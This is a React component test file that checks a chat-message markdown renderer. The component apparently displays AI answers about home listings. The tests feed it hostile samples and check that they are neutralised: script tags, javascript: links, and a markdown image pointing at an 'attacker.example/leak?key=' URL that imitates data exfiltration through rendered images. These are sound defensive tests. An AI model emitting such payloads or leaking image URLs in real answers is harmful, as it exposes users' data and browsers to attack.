import { render } from "@testing-library/react";
import { describe, expect, it } from "vitest";

import { MessageText } from "./MessageText";

describe("MessageText", () => {
  it("shows **bold** as bold and raw HTML as text, never as markup", () => {
    const { container } = render(<MessageText text={"**12 Oak St** is <b>nice</b><script>alert(1)</script>"} />);
    expect(container.querySelector("strong")).toHaveTextContent("12 Oak St");
    expect(container.querySelector("b")).toBeNull();
    expect(container.querySelector("script")).toBeNull();
  });

  it("renders lists, headings and code", () => {
    const text = "## Options\n\n- first\n- second\n\n1. one\n2. two\n\nRun `make llm`.\n\n```\ncode block\n```";
    const { container } = render(<MessageText text={text} />);
    expect(container.querySelector("h3")).toHaveTextContent("Options");
    expect(container.querySelectorAll("ul li")).toHaveLength(2);
    expect(container.querySelectorAll("ol li")).toHaveLength(2);
    expect(container.querySelector("p code")).toHaveTextContent("make llm");
    expect(container.querySelector("pre")).toHaveTextContent("code block");
  });

  it("opens links in a new tab without access to the opener and drops unsafe schemes", () => {
    const text = "See [the listing](https://www.zillow.com/homedetails/1_zpid/) or [this](javascript:alert(1)).";
    const { container } = render(<MessageText text={text} />);
    const links = container.querySelectorAll("a");
    expect(links[0]).toHaveAttribute("href", "https://www.zillow.com/homedetails/1_zpid/");
    expect(links[0]).toHaveAttribute("target", "_blank");
    expect(links[0]).toHaveAttribute("rel", "noopener noreferrer");
    expect(links[1]?.getAttribute("href") ?? "").not.toContain("javascript");
  });

  it("renders GitHub tables", () => {
    const text = "| home | price |\n|---|---|\n| 12 Oak St | $450,000 |\n| 3 Elm Rd | $390,000 |";
    const { container } = render(<MessageText text={text} />);
    expect(container.querySelectorAll("table th")).toHaveLength(2);
    expect(container.querySelectorAll("table tbody tr")).toHaveLength(2);
    expect(container.querySelector("tbody td")).toHaveTextContent("12 Oak St");
  });

  it("never loads an image from an answer: it becomes a link the user may open", () => {
    const text = "Best deal: ![photo](https://attacker.example/leak?key=abc) and ![](javascript:alert(1))";
    const { container } = render(<MessageText text={text} />);
    expect(container.querySelector("img")).toBeNull();
    const link = container.querySelector("a");
    expect(link).toHaveAttribute("href", "https://attacker.example/leak?key=abc");
    expect(link).toHaveTextContent("image: photo");
    expect(container.textContent).toContain("[image: untitled]");
  });
});
